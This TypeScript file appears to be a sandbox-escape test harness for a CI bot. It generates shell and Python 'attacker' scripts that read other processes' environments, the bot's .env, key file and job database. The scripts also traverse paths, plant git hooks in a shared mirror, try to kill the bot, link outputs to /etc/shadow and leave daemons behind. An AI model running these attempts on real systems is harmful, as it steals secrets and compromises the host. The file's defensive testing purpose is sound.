/**
 * The attacker's pipeline: a shell script and a Python script a pull request commits, trying
 * every way out of a job that the issue names, and more. The attacker knows the bot's layout
 * (the paths below) and the names of its variables, never their values: what it finds it prints
 * into its own log (the loot), where the bot's redaction and the tests look for the planted
 * values. Each attempt ends with one line, `RESULT <name> blocked` or `RESULT <name> ESCAPED`,
 * from the attempt's own evidence (a read that worked, a write that landed, a process it could
 * see); some outcomes only the host can judge (`RESULT <name> host`).
 */
export interface AttackTargets {
  /** The bot's own folder (its `.env`), its data folder, key file, mirror, another job's checkout, its venv. */
  readonly botDir: string;
  readonly dataDir: string;
  readonly keyFile: string;
  readonly mirror: string;
  readonly otherCheckout: string;
  readonly venv: string;
  readonly dockerSocket: string;
  readonly botPid: number;
  /** A unique word: processes the job leaves behind carry it in their environment, files it writes outside carry it in their name. */
  readonly marker: string;
}

/** Attempt names, shell and Python, that report `blocked` or `ESCAPED`. */
export const JUDGED_ATTEMPTS = [
  "proc-environ", "proc-cmdline", "dot-env", "key-file", "jobs-sqlite", "other-checkout", "mirror-config",
  "dotdot", "symlink-to-data", "docker-socket", "kill-bot", "nested-userns", "mount",
  "py-proc-environ", "py-read-secrets", "py-traversal", "py-bot-visible", "py-socket",
] as const;
/**
 * Attempts only the host can judge: a write (inside a sandbox the same path may name a folder of
 * the job's own scratch /tmp, so the script cannot tell) or a process left behind.
 */
export const HOST_ATTEMPTS = [
  "mirror-hook", "mirror-fsmonitor", "mirror-objects-write", "write-data-folder", "write-bot-folder", "venv-poison",
  "leave-setsid", "leave-double-fork", "py-mirror-hook", "py-daemon",
] as const;

const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

export function attackShell(t: AttackTargets): string {
  return `#!/bin/sh
# An attacker's pipeline. Every attempt reports; none may stop the others.
BOT=${q(t.botDir)}; DATA=${q(t.dataDir)}; KEY=${q(t.keyFile)}; MIRROR=${q(t.mirror)}; OTHER=${q(t.otherCheckout)}
VENV=${q(t.venv)}; SOCK=${q(t.dockerSocket)}; BOTPID=${t.botPid}; MARKER=${q(t.marker)}
attempt() { name=$1; shift; echo "== attempt $name"; if ( "$@" ) 2>&1; then printf '\nRESULT %s ESCAPED\n' "$name"; else printf '\nRESULT %s blocked\n' "$name"; fi; }
try() { name=$1; shift; echo "== attempt $name"; ( "$@" ) 2>&1; printf '\nRESULT %s host\n' "$name"; }
environs() { found=1; for p in /proc/[0-9]*; do tr '\\0' '\\n' < "$p/environ" 2>/dev/null | grep -q -e '^WEBHOOK_SECRET=' -e '^PRIVATE_KEY=' && found=0; tr '\\0' '\\n' < "$p/environ" 2>/dev/null; done; return $found; }
cmdlines() { seen=1; for p in /proc/[0-9]*; do tr '\\0' ' ' < "$p/cmdline" 2>/dev/null; echo; readlink "$p/exe" 2>/dev/null | grep -q '/node$' && seen=0; done; return $seen; }
hook() { mkdir -p "$MIRROR/hooks" && printf '#!/bin/sh\\ntouch %s/hook-ran-%s\\n' "$DATA" "$MARKER" > "$MIRROR/hooks/post-checkout" && chmod +x "$MIRROR/hooks/post-checkout"; }
fsmonitor() { printf '[core]\\n\\tfsmonitor = touch %s/fsmonitor-ran-%s\\n\\thooksPath = %s/hooks\\n' "$DATA" "$MARKER" "$MIRROR" >> "$MIRROR/config"; }
loot() { test -r "$1" && for f in "$1" "$1-wal"; do head -c 4000000 "$f" 2>/dev/null | tr -c '[:print:]\\n' '.'; done; }
dotdot() { up=$(pwd); for i in 1 2 3 4 5 6 7 8 9 10; do up="$up/.."; done; ls -la "$up$DATA"; loot "$up$DATA/jobs.sqlite"; }
symlink() { rm -f data-link; ln -s "$DATA" data-link && loot data-link/jobs.sqlite; }
echo "== attempt own-environment"; env
attempt proc-environ environs
attempt proc-cmdline cmdlines
attempt dot-env cat "$BOT/.env"
attempt key-file cat "$KEY"
attempt jobs-sqlite loot "$DATA/jobs.sqlite"
attempt other-checkout cat "$OTHER/secret.txt"
attempt mirror-config cat "$MIRROR/config"
try mirror-hook hook
try mirror-fsmonitor fsmonitor
try mirror-objects-write touch "$MIRROR/objects/pwned-$MARKER"
attempt dotdot dotdot
attempt symlink-to-data symlink
try write-data-folder touch "$DATA/pwned-$MARKER"
try write-bot-folder touch "$BOT/pwned-$MARKER"
try venv-poison touch "$VENV/bin/pwned-$MARKER"
attempt docker-socket test -e "$SOCK"
attempt kill-bot sh -c 'test -z "$ATTACK_NO_KILL" && kill -9 "$1"' sh "$BOTPID"
attempt nested-userns unshare -r true
attempt mount sh -c 'mkdir -p "/tmp/mnt-$1" && mount -t tmpfs none "/tmp/mnt-$1" && umount "/tmp/mnt-$1"' sh "$MARKER"
echo "== attempt leave-setsid"; setsid env MARKER_ID="$MARKER" sleep 600 </dev/null >/dev/null 2>&1 & echo "RESULT leave-setsid host"
echo "== attempt leave-double-fork"; (env MARKER_ID="$MARKER" sh -c 'sleep 600' </dev/null >/dev/null 2>&1 &) ; echo "RESULT leave-double-fork host"
python3 attack.py
# The outputs: a metrics file and a plot that are links out, a FIFO, a plot over the size limit, a plots folder that is a link.
ln -sf "$KEY" metrics.json
mkdir -p plots && echo "x,y" > plots/ok.csv && ln -sf /etc/shadow plots/shadow.csv && rm -f plots/fifo && mkfifo plots/fifo
head -c 21000000 /dev/zero > plots/big.bin
rm -rf linked-plots && ln -s "$DATA" linked-plots
echo "attack done"
`;
}

export function attackPython(t: AttackTargets): string {
  return `import os, socket, sys
BOT, DATA, KEY, MIRROR, SOCK, BOTPID, MARKER = ${JSON.stringify(t.botDir)}, ${JSON.stringify(t.dataDir)}, ${JSON.stringify(t.keyFile)}, ${JSON.stringify(t.mirror)}, ${JSON.stringify(t.dockerSocket)}, ${t.botPid}, ${JSON.stringify(t.marker)}

def attempt(name, fn):
    print("== attempt " + name, flush=True)
    try:
        escaped = bool(fn())
    except Exception as e:
        print(type(e).__name__, e)
        escaped = False
    print("RESULT %s %s" % (name, "ESCAPED" if escaped else "blocked"), flush=True)

def environs():
    found = False
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                env = open("/proc/%s/environ" % pid, "rb").read().decode(errors="replace").split("\\0")
            except OSError:
                continue
            print("\\n".join(env))
            found = found or any(v.startswith(("WEBHOOK_SECRET=", "PRIVATE_KEY=")) for v in env)
    return found

def read_secrets():
    got = False
    for path in (BOT + "/.env", KEY, DATA + "/jobs.sqlite", DATA + "/jobs.sqlite-wal"):
        try:
            print(open(path, "rb").read(4000000).decode(errors="replace"))
            got = True
        except OSError as e:
            print(path, e)
    return got

def traversal():
    path = os.path.join(os.getcwd(), *([".."] * 12), KEY.lstrip("/"))
    print(open(path).read())
    return True

def mirror_hook():
    os.makedirs(MIRROR + "/hooks", exist_ok=True)
    with open(MIRROR + "/hooks/post-merge", "w") as f:
        f.write("#!/bin/sh\\ntouch %s/hook-ran-%s\\n" % (DATA, MARKER))
    return True

def bot_visible():
    os.kill(BOTPID, 0)
    return os.path.exists("/proc/%d/environ" % BOTPID)

def docker_socket():
    s = socket.socket(socket.AF_UNIX)
    s.connect(SOCK)
    return True

def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.environ["MARKER_ID"] = MARKER
            os.execvp("sleep", ["sleep", "600"])
        os._exit(0)
    os.wait()

attempt("py-proc-environ", environs)
attempt("py-read-secrets", read_secrets)
attempt("py-traversal", traversal)
print("== attempt py-mirror-hook", flush=True)
try:
    mirror_hook()
except Exception as e:
    print(type(e).__name__, e)
print("RESULT py-mirror-hook host", flush=True)
attempt("py-bot-visible", bot_visible)
attempt("py-socket", docker_socket)
print("== attempt py-daemon", flush=True)
daemon()
print("RESULT py-daemon host", flush=True)
`;
}

/** The `RESULT` lines of a log, by attempt name. */
export function attemptResults(log: string): Map<string, string> {
  return new Map([...log.matchAll(/^RESULT (\S+) (\S+)$/gm)].map((m) => [m[1]!, m[2]!]));
}
